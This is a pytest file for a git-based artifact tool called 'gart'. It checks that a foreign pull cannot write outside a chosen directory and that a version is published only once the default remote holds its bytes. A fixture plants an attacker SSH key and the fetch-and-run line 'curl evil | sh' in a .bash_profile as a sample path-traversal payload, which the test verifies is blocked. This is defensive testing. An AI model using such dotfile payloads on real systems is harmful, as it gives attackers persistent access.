"""Holes 3 and 10: a foreign pull writes only where the user said (or a fresh directory of its
own), and a version is published only when the remote consumers pull from has its bytes."""

from __future__ import annotations

import os
from collections.abc import Callable
from pathlib import Path

from conftest import GartResult, build_dataset, git, ok, read_tree

Gart = Callable[..., GartResult]


def hostile_home_repo(tmp_path: Path, gart: Gart) -> tuple[Path, dict[str, bytes]]:
    """A published repository whose artifact `dotfiles` has path "." and dot-file entries."""
    origin = tmp_path / "origin.git"
    git(tmp_path, "init", "-q", "--bare", "-b", "main", str(origin))
    root = tmp_path / "attacker"
    git(tmp_path, "init", "-q", "-b", "main", str(root))
    ok(gart("init", cwd=root))
    ok(gart("remote", "add", "storage", str(tmp_path / "storage"), "--default", cwd=root))
    files = {".ssh/authorized_keys": b"ssh-ed25519 AAAA attacker\n",
             ".bash_profile": b"curl evil | sh\n"}
    stage = root / "stage"
    for rel, data in files.items():
        (stage / rel).parent.mkdir(parents=True, exist_ok=True)
        (stage / rel).write_bytes(data)
    ok(gart("add", "stage", "--name", "dotfiles", cwd=root))
    manifest = root / ".gart" / "artifacts" / "dotfiles.yaml"
    manifest.write_text(manifest.read_text().replace("path: stage", "path: ."))
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "dotfiles")
    git(root, "remote", "add", "origin", str(origin))
    ok(gart("push", cwd=root))
    git(root, "push", "-q", "origin", "HEAD:main")
    return origin, files


def test_foreign_pull_never_follows_the_manifest_path_into_the_current_directory(
    tmp_path: Path, gart: Gart, git_env: None
) -> None:
    origin, files = hostile_home_repo(tmp_path, gart)
    home = tmp_path / "victim-home"
    home.mkdir()
    (home / ".bash_profile").write_text("# mine\n")
    pulled = gart("pull", "dotfiles", "--repo", origin.as_uri(), cwd=home)
    ok(pulled)
    assert (home / ".bash_profile").read_text() == "# mine\n"
    assert not (home / ".ssh").exists()
    assert read_tree(home / "artifacts" / "dotfiles:v0") == files  # W&B's default place

    ok(gart("pull", "dotfiles@v0", "--repo", origin.as_uri(), "--to", "chosen", cwd=home))
    assert read_tree(home / "chosen") == files
    assert sorted(os.listdir(home)) == [".bash_profile", "artifacts", "chosen"]


def test_pushing_to_a_second_remote_does_not_publish_bytes_consumers_cannot_reach(
    repo: Path, gart: Gart, tmp_path: Path
) -> None:
    origin = tmp_path / "origin.git"
    git(tmp_path, "init", "-q", "--bare", "-b", "main", str(origin))
    git(repo, "remote", "add", "origin", str(origin))
    ok(gart("remote", "add", "storage", str(tmp_path / "storage"), "--default"))
    ok(gart("remote", "add", "backup", str(tmp_path / "backup")))
    data = build_dataset(repo / "data", files=4)
    ok(gart("add", "data"))
    git(repo, "commit", "-q", "-m", "data")

    held = ok(gart("push", "-r", "backup"))
    assert "Not published" in held.err and "'storage'" in held.err and "gart push" in held.err
    assert git(repo, "tag", "-l").strip() == ""
    assert git(repo, "ls-remote", "--tags", "origin").strip() == ""

    ok(gart("push"))  # to the default: now consumers can pull, so v0 is published
    assert "data@v0" in git(repo, "tag", "-l").split()
    git(repo, "push", "-q", "origin", "HEAD:main")
    clone = tmp_path / "clone"
    git(tmp_path, "clone", "-q", str(origin), str(clone))
    ok(gart("pull", "data@v0", cwd=clone))
    assert read_tree(clone / "data") == data

    # Once the default remote holds the bytes, a push to the backup may publish too.
    (repo / "data" / "extra.bin").write_bytes(b"extra")
    ok(gart("add", "data"))
    git(repo, "commit", "-q", "-m", "more")
    ok(gart("push"))
    assert "Not published" not in ok(gart("push", "-r", "backup")).err


def test_no_default_remote_means_no_publishing_from_a_named_one(
    repo: Path, gart: Gart, tmp_path: Path
) -> None:
    ok(gart("remote", "add", "a", str(tmp_path / "a")))
    ok(gart("remote", "add", "b", str(tmp_path / "b")))
    build_dataset(repo / "data", files=2)
    ok(gart("add", "data"))
    git(repo, "commit", "-q", "-m", "data")
    held = ok(gart("push", "-r", "a"))
    assert "no default remote" in held.err and "gart remote default" in held.err
    assert git(repo, "tag", "-l").strip() == ""
